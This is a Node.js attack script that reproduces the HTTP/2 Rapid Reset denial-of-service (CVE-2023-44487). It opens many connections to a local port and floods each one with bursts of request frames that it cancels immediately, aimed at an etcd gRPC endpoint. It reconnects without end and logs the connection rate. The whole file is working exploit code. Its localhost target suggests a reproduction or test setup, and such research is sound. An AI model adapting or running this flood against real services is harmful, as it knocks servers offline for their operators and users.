// Rapid reset (CVE-2023-44487) over and over: so many connections, each of which sends requests that it cancels at once until it is hung up on, and
// then connects again. Prints how many connections it made, each second until it is killed.
//
//   node attacker.mjs PORT CONNECTIONS
import { connect } from 'node:net';
import { PREFACE, frame, requestBlock } from './frames.mjs';

const [port, connections] = process.argv.slice(2).map(Number);
const block = requestBlock('/etcdserverpb.KV/Put');
const hello = Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))]);

/** What a connection sends at once: 400 requests, and their ends. */
const REQUESTS = 400;
const bursts = Array.from({ length: 50 }, (_, burst) =>
  Buffer.concat(
    Array.from({ length: REQUESTS }, (_, i) => {
      const id = 2 * (burst * REQUESTS + i) + 1;
      return Buffer.concat([frame(1, 4, id, block), frame(3, 0, id, Buffer.of(0, 0, 0, 8))]);
    }),
  ),
);

let made = 0;
function attack() {
  let burst = 0;
  const socket = connect(port, '127.0.0.1', () => {
    made++;
    socket.write(hello);
    flood();
  });
  const flood = () => {
    if (socket.destroyed || burst === bursts.length) return void socket.destroy();
    socket.write(bursts[burst++], () => setImmediate(flood));
  };
  socket.on('error', () => undefined).on('close', () => setImmediate(attack));
  socket.resume();
}
for (let i = 0; i < connections; i++) attack();
setInterval(() => {
  console.log(made);
  made = 0;
}, 1000);
